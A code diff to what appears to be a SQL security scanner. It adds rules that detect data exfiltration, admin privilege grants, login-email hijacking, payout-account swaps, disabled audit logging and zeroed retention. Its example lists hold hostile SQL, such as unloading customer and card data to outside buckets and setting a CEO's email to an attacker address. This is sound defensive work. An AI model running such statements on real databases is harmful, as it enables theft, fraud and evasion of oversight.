@@ -8,7 +8,8 @@ import { normalizeUnicode, percentDecode } from '../normalize.js';
 import { COMMON_PATTERNS, envOf, metaText, type Env } from '../parse/api-common.js';
 import { K, findAndProbe, parseSql, whereIsConstant, type SqlParse, type Stmt } from '../parse/sql-tokens.js';
 import { AGE_COLUMNS, CLEARING_VALUES, isAuditTable, isFlagColumn, isPayColumn } from '../parse/sql-objects.js';
-import { mongoUpdatesAsSql, SQL_MONGO_PATTERNS } from '../parse/sql-mongo.js';
+import { mongoAsSql, SQL_MONGO_PATTERNS } from '../parse/sql-mongo.js';
+import { adminRoleGranted, auditSwitchedOff, destinationRewritten, retentionZeroed, rowsShippedOut, SQL_EFFECT_PATTERNS, whereSelectsWholeTable } from '../parse/sql-effects.js';
 import { bulkApproval, clinicalRewrite, figureRewrite, labelRewrite, mentionsClosed, readUpdate, SQL_RECORD_PATTERNS } from '../parse/sql-records.js';
 import { addressTags, extraTagId } from '../frames/destinations.js';
 import { foldAccents } from '../frames/fold.js';
@@ -89,7 +90,7 @@ function prepare(value: string, metadata: Metadata): QueryContext {
     }
   }
   // MongoDB updates are read as the UPDATE they amount to, so every UPDATE rule reads them
-  const mongo = mongoUpdatesAsSql(source);
+  const mongo = mongoAsSql(source);
   if (mongo !== '') sql = merge(sql, parseSql(mongo));
   if (value.length > 65536) sql = { ...sql, skeleton: `${sql.skeleton} ${value.slice(65536, 65536 + 1048576).toLowerCase()}` };
   const lowerMeta = (metaText(metadata, 'environment', 'env', 'database', 'db') ?? '').toLowerCase();
@@ -308,6 +309,31 @@ function recordRewriteFinding(ctx: QueryContext): Finding | undefined {
   return best;
 }
 
+/** The first finding `fn` gives for any statement of the batch. */
+function firstStatement(ctx: QueryContext, fn: (st: Stmt) => Finding | undefined): Finding | undefined {
+  for (const st of ctx.sql.stmts) {
+    const f = fn(st);
+    if (f !== undefined) return f;
+  }
+  return undefined;
+}
+
+/** A login address or a payout account written by an UPDATE (which of the two: `payout`). */
+function destinationFinding(ctx: QueryContext, payout: boolean): Finding | undefined {
+  return firstStatement(ctx, (st) => {
+    const u = readUpdate(st);
+    if (u === undefined) return undefined;
+    const keyed = u.whereCols.some((c) => c === 'id' || c.endsWith('_id') || c === 'username' || c === 'email' || c === 'login');
+    const every = !u.hasWhere || whereSelectsWholeTable(st.toks) !== undefined;
+    const f = destinationRewritten(st, u.pairs, keyed && !every, every, payout ? 'payout' : 'login');
+    if (f === undefined) return undefined;
+    // a payout account changed for one record with a ticket or approval beside it is the change done properly
+    if (payout && f.score < 7 && hasSafeguardOff(ctx.source) === false && APPROVAL_NOTE.test(ctx.source.slice(0, 4096).toLowerCase())) return undefined;
+    return f;
+  });
+}
+const APPROVAL_NOTE = /\b(?:ticket|approved|verified|per request|change request)\b|\b[a-z]{2,6}-[0-9]{2,6}\b/;
+
 /** Every collection of a MongoDB database dropped in a loop. */
 function dropAllCollections(ctx: QueryContext): Finding | undefined {
   const s = ctx.source.toLowerCase();
@@ -354,6 +380,9 @@ function unfiltered(ctx: QueryContext, verbRe: RegExp, verb: string, scores: [nu
     const constant = whereIsConstant(st.toks);
     // DELETE … USING / UPDATE … FROM joins still filter in WHERE; a missing WHERE is what matters
     if (!hasWord(st, 'where')) return { detail: `${verb} on ${target} with no WHERE clause`, score: envScore(ctx.env, ...scores) };
+    // "WHERE id IN (SELECT id FROM t)" with nothing filtering the subquery keeps every row
+    const whole = whereSelectsWholeTable(st.toks);
+    if (whole !== undefined) return { detail: `${verb} on ${target} with WHERE ${whole}`, score: envScore(ctx.env, ...scores) };
     if (constant !== undefined) return { detail: `${verb} on ${target} with always-true WHERE ${constant}`, score: envScore(ctx.env, ...scores) + 1 };
   }
   return undefined;
@@ -920,6 +949,96 @@ const queryAnalyzer: Analyzer<QueryContext> = {
       },
     },
     {
+      id: 'Q27',
+      name: 'Rows exported to a storage location or shared with another account',
+      primitive: 'EXFILTRATION',
+      score: 8,
+      keywords: ['copy into', 'unload', 'export data', 'share', 'outfile s3', 'query_export_to_s3'],
+      detect: (ctx) => firstStatement(ctx, rowsShippedOut),
+      examples: {
+        flag: [
+          "COPY INTO 's3://partner-drop-8812/exports/' FROM (SELECT email, phone, dob FROM crm.customers) CREDENTIALS=(AWS_KEY_ID='x' AWS_SECRET_KEY='y')",
+          "EXPORT DATA OPTIONS(uri='gs://ext-share-bucket/users-*.csv', format='CSV') AS SELECT * FROM prod.users",
+          "UNLOAD ('SELECT * FROM payments.cards') TO 's3://my-personal-bkt/cards_' IAM_ROLE 'arn:aws:iam::1:role/x'",
+          'ALTER SHARE customer_share ADD ACCOUNTS = xy12345',
+        ],
+        pass: [
+          'COPY INTO @internal_stage/backup/ FROM analytics.daily_sales',
+          "EXPORT DATA OPTIONS(uri='gs://acme-analytics-exports/daily-*.csv', format='CSV') AS SELECT region, SUM(total) FROM prod.orders GROUP BY region",
+          'CREATE DATABASE weather FROM SHARE provider.weather_share',
+        ],
+      },
+    },
+    {
+      id: 'Q28',
+      name: 'Platform administrator role or database ownership granted',
+      primitive: 'ESCALATION',
+      score: 8,
+      keywords: ['grant'],
+      detect: (ctx) => {
+        const f = firstStatement(ctx, adminRoleGranted);
+        return f === undefined ? undefined : { detail: f.detail, score: envScore(ctx.env, f.score ?? 8, f.score ?? 8, 3) };
+      },
+      examples: {
+        flag: ['GRANT ROLE ACCOUNTADMIN TO USER etl_bot;', 'GRANT OWNERSHIP ON DATABASE PROD TO ROLE ETL_BOT COPY CURRENT GRANTS', 'GRANT `roles/bigquery.admin` ON SCHEMA prod TO "user:x@gmail.com"'],
+        pass: ['GRANT ROLE ANALYST TO USER jdoe;', 'GRANT OWNERSHIP ON TABLE staging.tmp_load TO ROLE LOADER', 'GRANT SELECT ON analytics.daily_sales TO ROLE REPORTING;'],
+      },
+    },
+    {
+      id: 'Q29',
+      name: 'Login address of an account set to a personal mailbox',
+      primitive: 'ESCALATION',
+      score: 8,
+      keywords: ['email', 'phone', 'mobile', 'recovery'],
+      detect: (ctx) => destinationFinding(ctx, false),
+      examples: {
+        flag: ["UPDATE users SET email = 'attacker@proton.me' WHERE username = 'ceo';", "UPDATE accounts SET recovery_email = 'help.desk.7@gmail.com' WHERE id = 4"],
+        pass: ["UPDATE users SET email = 'new.address@acme.com' WHERE id = 42;", "SELECT email FROM users WHERE email = 'x@gmail.com'"],
+      },
+    },
+    {
+      id: 'Q30',
+      name: 'Payout account replaced by a typed-in account',
+      primitive: 'MANIPULATION',
+      score: 8,
+      keywords: ['iban', 'bank_account', 'account_number', 'routing_number', 'sort_code', 'swift', 'bic', 'payout', 'wallet'],
+      detect: (ctx) => destinationFinding(ctx, true),
+      examples: {
+        flag: ["UPDATE payroll SET iban = 'DE89370400440532013000' WHERE employee_id IN (SELECT id FROM employees);", "UPDATE vendors SET iban = 'LT121000011101001000'", "UPDATE vendors SET iban = 'LT121000011101001000' WHERE id = 7"],
+        pass: ["UPDATE payroll SET iban = 'DE89370400440532013000' WHERE employee_id = 4411; -- HR-2231 verified", 'SELECT iban FROM vendors WHERE id = 7'],
+      },
+    },
+    {
+      id: 'Q31',
+      name: 'Audit trail switched off (audit trigger, statement logging, audit policy)',
+      primitive: 'MANIPULATION',
+      score: 6,
+      keywords: ['trigger', 'log_', 'pgaudit', 'audit'],
+      detect: (ctx) => {
+        if (ctx.env === 'nonprod') return undefined;
+        return firstStatement(ctx, auditSwitchedOff);
+      },
+      examples: {
+        flag: ['DROP TRIGGER trg_audit_orders ON orders;', "ALTER SYSTEM SET log_statement = 'none';", 'DROP AUDIT POLICY hr_access_policy;'],
+        pass: ['DROP TRIGGER trg_set_updated_at ON orders;', "ALTER SYSTEM SET log_statement = 'all';", "SELECT * FROM audit_log WHERE actor = 'x'"],
+      },
+    },
+    {
+      id: 'Q32',
+      name: 'Time travel or retention cut to zero',
+      primitive: 'DESTRUCTION',
+      score: 6,
+      keywords: ['retention', 'time_travel', 'retain', 'change_tracking', 'extension_time'],
+      detect: (ctx) => {
+        const f = firstStatement(ctx, (st) => (isScratch(st.sk.split(' ', 4)[2]) ? undefined : retentionZeroed(st)));
+        return f === undefined ? undefined : { detail: f.detail, score: envScore(ctx.env, 8, f.score ?? 6, 0) };
+      },
+      examples: {
+        flag: ['ALTER TABLE prod.events SET DATA_RETENTION_TIME_IN_DAYS = 0;', 'VACUUM audit_events RETAIN 0 HOURS'],
+        pass: ['ALTER TABLE staging.events SET DATA_RETENTION_TIME_IN_DAYS = 1;', 'ALTER TABLE raw.clickstream SET DATA_RETENTION_TIME_IN_DAYS = 30;', 'VACUUM events RETAIN 168 HOURS'],
+      },
+    },
+    {
       id: 'Q23',
       name: 'Every collection of a database dropped',
       primitive: 'DESTRUCTION',
@@ -935,7 +1054,7 @@ const queryAnalyzer: Analyzer<QueryContext> = {
   auxPatterns: [
     NUMERIC_LEAD, FILE_TARGET_STMT, WEB_FILE, ROLE_COLUMN, BOOL_ROLE, POWER_VALUE, DQUOTE, INJECTED_UNION, COLUMN_PROBE, ERROR_BASED,
     ALTER_CRED, BUILTIN_ADMIN, NOSQL_DESTROY, NOSQL_OPERATOR, NOSQL_WHERE, JS_PAYLOAD, / /g, /\b(?:password|identified)\b/,
-    CLINICAL_DB, ...SQL_RECORD_PATTERNS, ...SQL_MONGO_PATTERNS, PAY_FACTOR, STARTS_STATEMENT, URL_ESCAPED, EXEC_STRING, SCRATCH_NAME, DROP_OBJ, TRUNCATE, DELETE_FROM, UPDATE_SET, PAD_ITEM, /^(?:null|[0-9]{1,3})(?: --| #|$)/,
+    CLINICAL_DB, APPROVAL_NOTE, ...SQL_EFFECT_PATTERNS, ...SQL_RECORD_PATTERNS, ...SQL_MONGO_PATTERNS, PAY_FACTOR, STARTS_STATEMENT, URL_ESCAPED, EXEC_STRING, SCRATCH_NAME, DROP_OBJ, TRUNCATE, DELETE_FROM, UPDATE_SET, PAD_ITEM, /^(?:null|[0-9]{1,3})(?: --| #|$)/,
     RECON, CREDENTIAL_TABLE, CREDENTIAL_COL, CONDITION_CONTEXT, BOUNDED, AGGREGATE, PII_TABLE, STACKED, GRANT_BROAD, SP_ADDROLE, POWER_ROLE,
     ROLE_POWER, FILE_IO, COPY_FILE, DROP_COLUMN, DROP_MINOR, SHUTDOWN, /''/g, ONE_ROW, /\s+/g,
     ...COMMON_PATTERNS,
